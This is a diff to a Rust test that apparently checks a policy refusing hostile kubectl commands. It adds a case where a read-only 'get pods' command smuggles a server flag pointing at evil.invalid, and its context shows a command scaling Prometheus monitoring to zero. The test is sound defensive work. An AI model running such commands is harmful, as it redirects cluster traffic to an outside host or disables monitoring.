@@ -871,6 +871,11 @@ fn hostile_lines_are_refused_by_the_policy_before_they_reach_kubectl() {
             "name one with -n",
         ),
         (
+            "kubectl get pods -n sock-shop -ws https://evil.invalid:443",
+            Phase::Observation,
+            "changes the cluster",
+        ),
+        (
             "kubectl scale deploy prometheus --replicas=0 -n monitoring",
             Phase::Action,
             "outside the allowed scope",
